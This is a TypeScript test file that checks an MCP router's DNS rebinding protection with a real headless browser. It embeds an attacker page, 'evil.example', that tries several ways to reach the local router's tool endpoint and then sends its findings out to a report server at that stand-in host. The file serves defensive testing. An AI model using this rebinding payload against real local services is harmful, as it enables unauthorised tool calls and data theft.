/**
 * DNS rebinding with a real browser. A page of evil.example, whose name then resolves to this machine, tries every way
 * to reach the router. The test compares the calls that the router counted. With the checks off the same page gets
 * through.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { type AddressInfo, connect, createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { MetricsSnapshot } from '../telemetry/metrics.ts';
import { type RunningProcess, startProcess } from '../test/support/running-process.ts';
import { type Serving, serving } from '../test/support/serving.ts';

const BROWSER = ['chromium', 'chromium-headless-shell', 'google-chrome'].find(
  (name) => spawnSync(name, ['--version']).status === 0,
);

const CALL = JSON.stringify({
  jsonrpc: '2.0',
  id: 1,
  method: 'tools/call',
  params: {
    name: 'invoke_read_tool',
    arguments: { name: 'lookup_api', arguments: { query: 'stolen' } },
    _meta: {
      'io.modelcontextprotocol/protocolVersion': '2026-07-28',
      'io.modelcontextprotocol/clientInfo': { name: 'page', version: '1' },
      'io.modelcontextprotocol/clientCapabilities': {},
    },
  },
});
const HEADERS = {
  accept: 'application/json, text/event-stream',
  'content-type': 'application/json',
  'mcp-protocol-version': '2026-07-28',
  'mcp-method': 'tools/call',
  'mcp-name': 'invoke_read_tool',
};

/** Tries its own origin, which by then is the router, the router's plain addresses, and what needs no permission. */
const page = (router: number, report: string) => `<!doctype html><title>evil</title><script>
const call = ${JSON.stringify(CALL)}, headers = ${JSON.stringify(HEADERS)};
const tries = {
  own: () => fetch('/mcp', { method: 'POST', headers, body: call }).then(async (r) => r.status + ' ' + (await r.text()).slice(0, 60)),
  localhost: () => fetch('http://localhost:${router}/mcp', { method: 'POST', headers, body: call }).then((r) => r.status),
  address: () => fetch('http://127.0.0.1:${router}/mcp', { method: 'POST', headers, body: call }).then((r) => r.status),
  silent: () => fetch('http://127.0.0.1:${router}/mcp', { method: 'POST', mode: 'no-cors', body: call }).then((r) => r.type),
  beacon: async () => navigator.sendBeacon('http://localhost:${router}/mcp', call),
  stream: () => fetch('/mcp', { headers: { accept: 'text/event-stream' } }).then((r) => r.status),
  metrics: () => fetch('/metrics').then((r) => r.status),
};
(async () => {
  await new Promise((r) => setTimeout(r, 1000));
  const said = {};
  for (const name in tries) said[name] = await Promise.race([tries[name]().catch((e) => String(e)), new Promise((r) => setTimeout(r, 4000, 'nothing'))]);
  await fetch('${report}?' + encodeURIComponent(JSON.stringify(said)), { mode: 'no-cors' });
})();
</script>`;

interface Attack {
  /** What each try came to, as the page saw it. */
  said: Record<string, unknown>;
}

async function attack(router: Serving): Promise<Attack> {
  const told = Promise.withResolvers<Record<string, unknown>>();
  const reports = createHttpServer((request, response) => {
    response.end();
    const query = decodeURIComponent(request.url?.split('?')[1] ?? '');
    if (query !== '') told.resolve(JSON.parse(query));
  });
  const report = await portOf(reports);
  let leadsTo = 0;
  const open = new Set<Socket>();
  const attacker = createHttpServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html', connection: 'close' });
    // From now on the name and port of this page lead to the router, and spare connections to the old place are gone.
    leadsTo = router.port;
    response.end(page(router.port, `http://evil.example:${report}/`), () =>
      setTimeout(() => {
        for (const socket of open) socket.destroy();
      }, 200),
    );
  });
  leadsTo = await portOf(attacker);
  // The test redirects connections instead of names: the browser sees one origin all the time.
  const name = createServer((socket) => {
    open.add(socket);
    socket.once('close', () => open.delete(socket));
    const onward = connect(leadsTo, '127.0.0.1');
    socket.pipe(onward).pipe(socket);
    socket.on('error', () => onward.destroy());
    onward.on('error', () => socket.destroy());
  });
  const origin = await portOf(name);
  const profile = mkdtempSync(join(tmpdir(), 'svc-mcp-browser-'));
  const browser = browse(`http://evil.example:${origin}/`, profile);
  try {
    return { said: await Promise.race([told.promise, ended(browser)]) };
  } finally {
    await browser.stop('SIGKILL');
    for (const server of [reports, attacker, name]) server.close();
    rmSync(profile, { recursive: true, force: true, maxRetries: 5, retryDelay: 200 });
  }
}

function browse(url: string, profile: string): RunningProcess {
  return startProcess(BROWSER as string, [
    '--headless',
    '--no-sandbox',
    '--disable-gpu',
    '--disable-dev-shm-usage',
    '--no-first-run',
    `--user-data-dir=${profile}`,
    '--host-resolver-rules=MAP evil.example 127.0.0.1',
    '--remote-debugging-port=0',
    url,
  ]);
}

async function ended(browser: RunningProcess): Promise<never> {
  const { code, stderr } = await browser.ended;
  throw new Error(`the browser ended with ${code}: ${stderr.slice(-1_000)}`);
}

async function portOf(server: Server | ReturnType<typeof createHttpServer>): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

async function callsCounted(router: Serving): Promise<number> {
  const response = await fetch(new URL('/metrics?format=json', router.url));
  return ((await response.json()) as MetricsSnapshot).series.reduce((sum, { requests }) => sum + requests, 0);
}

const METRICS = { SVC_MCP_METRICS: '1', SVC_MCP_METRICS_HTTP: '1' };

describe.skipIf(BROWSER === undefined)(
  `a page in a browser${BROWSER === undefined ? ' (skipped: no chromium on this machine)' : ''}`,
  () => {
    test('reaches no tool', async () => {
      await using router = await serving(METRICS);
      const { said } = await attack(router);
      expect(await callsCounted(router), JSON.stringify(said)).toBe(0);
      expect(String(said['own'])).toMatch(/^403 /);
      expect(said['metrics']).toBe(403);
    });

    test('reaches one when the checks are off, so the test above can fail', async () => {
      await using router = await serving({
        ...METRICS,
        MCP_DNS_REBINDING_PROTECTION: '0',
        SVC_MCP_ALLOW_INSECURE_HTTP_BINDING: '1',
      });
      const { said } = await attack(router);
      expect(await callsCounted(router), JSON.stringify(said)).toBe(1);
      expect(String(said['own'])).toMatch(/^200 /);
    });
  },
);
